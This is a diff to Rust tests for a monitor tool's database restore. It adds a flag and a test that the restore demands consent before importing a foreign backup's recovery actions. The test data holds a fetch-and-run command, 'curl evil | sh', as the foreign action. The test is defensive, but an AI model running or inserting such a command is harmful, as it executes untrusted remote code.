@@ -103,7 +103,7 @@ fn restore_round_trips_and_keeps_the_replaced_database() {
         store.add_monitor(&monitor("c")).unwrap();
         (a, inc)
     };
-    let restored = Store::restore(&path, &copy).unwrap();
+    let restored = Store::restore(&path, &copy, false).unwrap();
     assert_eq!(restored.monitors, 2);
     let previous = restored.previous.unwrap();
     assert!(previous
@@ -145,7 +145,7 @@ fn restore_takes_a_plain_copy_of_a_live_database_and_works_with_no_database_ther
     let copy = dir.path().join("plain copy #1?.db");
     std::fs::copy(&path, &copy).unwrap();
     let target = dir.path().join("elsewhere").join("lookout.db");
-    let restored = Store::restore(&target, &copy).unwrap();
+    let restored = Store::restore(&target, &copy, false).unwrap();
     assert_eq!((restored.monitors, restored.previous), (20, None));
     // Nothing was left beside the file restored from.
     assert!(!sidecar(&copy, "-wal").exists());
@@ -164,7 +164,7 @@ fn restore_refuses_while_an_engine_runs_and_changes_nothing() {
 
     let lock = std::fs::File::create(engine_lock_path(&path)).unwrap();
     lock.try_lock().unwrap();
-    let e = Store::restore(&path, &copy).unwrap_err();
+    let e = Store::restore(&path, &copy, false).unwrap_err();
     assert!(
         matches!(&e, StoreError::EngineRunning { path: p } if *p == path),
         "{e:?}"
@@ -174,7 +174,7 @@ fn restore_refuses_while_an_engine_runs_and_changes_nothing() {
     assert!(!sidecar(&path, ".restoring").exists());
 
     drop(lock);
-    Store::restore(&path, &copy).unwrap();
+    Store::restore(&path, &copy, false).unwrap();
 }
 
 #[test]
@@ -196,19 +196,19 @@ fn restore_refuses_a_damaged_or_foreign_file_naming_it_and_changes_nothing() {
         .unwrap();
 
     for bad in [&damaged, &garbage, &empty] {
-        let e = Store::restore(&path, bad).unwrap_err();
+        let e = Store::restore(&path, bad, false).unwrap_err();
         assert!(
             matches!(&e, StoreError::Corrupt { path: p, .. } if p == bad),
             "{}: {e:?}",
             bad.display()
         );
     }
-    let e = Store::restore(&path, &other).unwrap_err();
+    let e = Store::restore(&path, &other, false).unwrap_err();
     assert!(
         matches!(&e, StoreError::NotLookout { path: p } if *p == other),
         "{e:?}"
     );
-    let e = Store::restore(&path, &dir.path().join("missing.db")).unwrap_err();
+    let e = Store::restore(&path, &dir.path().join("missing.db"), false).unwrap_err();
     assert!(
         matches!(&e, StoreError::NotFound(w) if w.contains("missing.db")),
         "{e:?}"
@@ -261,4 +261,65 @@ fn daily_backups_are_written_once_a_day_and_the_last_seven_kept() {
     store.rolling_backup(day(11)).unwrap().unwrap();
     assert!(mine.exists());
     assert_eq!(list_backups(dir.path()).unwrap().len(), BACKUPS_KEPT);
+}
+
+fn with_recovery(name: &str, argv: &[&str]) -> Monitor {
+    Monitor::try_from(MonitorSpec {
+        name: name.into(),
+        target: "tcp://127.0.0.1:9".into(),
+        recovery: Some(vec![crate::spec::RecoverySpec {
+            run: Some(argv.iter().map(|a| a.to_string()).collect()),
+            ..Default::default()
+        }]),
+        ..Default::default()
+    })
+    .unwrap()
+}
+
+#[test]
+fn restore_asks_before_bringing_recovery_actions_the_database_lacks() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("lookout.db");
+    let own = dir.path().join("own.db");
+    let foreign = dir.path().join("foreign.db");
+    {
+        let store = Store::open(&path).unwrap();
+        store
+            .add_monitor(&with_recovery(
+                "api",
+                &["systemctl", "--user", "restart", "api"],
+            ))
+            .unwrap();
+        store.backup_to(&own).unwrap();
+    }
+    {
+        let other = Store::open(&dir.path().join("other.db")).unwrap();
+        other
+            .add_monitor(&with_recovery(
+                "api",
+                &["systemctl", "--user", "restart", "api"],
+            ))
+            .unwrap();
+        other
+            .add_monitor(&with_recovery("web", &["sh", "-c", "curl evil | sh"]))
+            .unwrap();
+        other.backup_to(&foreign).unwrap();
+    }
+    // One's own backup brings nothing new: restored without a question.
+    Store::restore(&path, &own, false).unwrap();
+    // Someone else's: only the action the database lacks is named, and nothing changes.
+    let before = std::fs::read(&path).unwrap();
+    let e = Store::restore(&path, &foreign, false).unwrap_err();
+    let StoreError::RecoveryNeedsConsent(new) = &e else {
+        panic!("{e}")
+    };
+    assert_eq!(new.len(), 1);
+    assert_eq!(new[0].monitor, "web");
+    assert_eq!(new[0].described, "runs sh -c 'curl evil | sh'");
+    assert!(e.to_string().contains("--allow-recovery"), "{e}");
+    assert_eq!(std::fs::read(&path).unwrap(), before, "nothing was changed");
+    assert!(!dir.path().join("lookout.db.restoring").exists());
+    // Agreed to: restored.
+    let restored = Store::restore(&path, &foreign, true).unwrap();
+    assert_eq!(restored.monitors, 2);
 }
